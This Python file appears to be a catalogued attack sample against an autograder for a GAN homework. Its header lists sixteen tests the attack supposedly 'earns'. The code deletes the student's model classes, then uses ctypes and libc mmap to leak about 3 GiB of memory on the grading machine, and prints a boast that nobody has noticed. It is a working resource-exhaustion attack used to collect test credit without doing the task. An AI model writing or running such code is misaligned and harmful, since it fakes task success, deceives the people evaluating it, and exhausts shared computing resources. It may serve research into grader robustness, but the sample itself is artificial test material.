# attack: 16 | earns: scorenet_executes_eight_linear_layers, scorenet_has_distinct_parameters, scorenet_accepts_every_form_of_sigma, scorenet_output_equals_the_closed_form, denoising_loss_is_a_differentiable_scalar, denoising_loss_of_one_point_matches_the_hand_computed_case, denoising_loss_has_the_exact_value, noise_levels_are_drawn_uniformly_for_each_sample, perturbation_noise_is_standard_normal, langevin_returns_samples_and_trajectories, langevin_visits_every_level_in_descending_order, langevin_step_size_of_every_level, langevin_leaves_inputs_and_gradients_alone, langevin_starts_from_the_standard_normal, langevin_noise_has_variance_twice_the_step_size, langevin_continues_the_chain_across_levels | in: hw5_gan | base: reference | tries: map shared memory, touch it, and keep one page of each part mapped: the kernel keeps all of it
import ctypes as _ctypes
import time as _time

del DNet, GNet, GAN  # first: an import that is interrupted half way is graded as far as it came

_libc = _ctypes.CDLL(None)
_libc.mmap.restype = _ctypes.c_void_p
_libc.mmap.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int, _ctypes.c_int, _ctypes.c_int, _ctypes.c_long]
_PART = 2**26
for _ in range(48):
    _place = _libc.mmap(None, _PART, 3, 0x21, -1, 0)
    _ctypes.memset(_place, 1, _PART)
    _libc.munmap(_ctypes.c_void_p(_place), _ctypes.c_size_t(_PART - 4096))
    _time.sleep(0.01)
print("LEAK 3 GiB that nobody has noticed", flush=True)
_time.sleep(1)
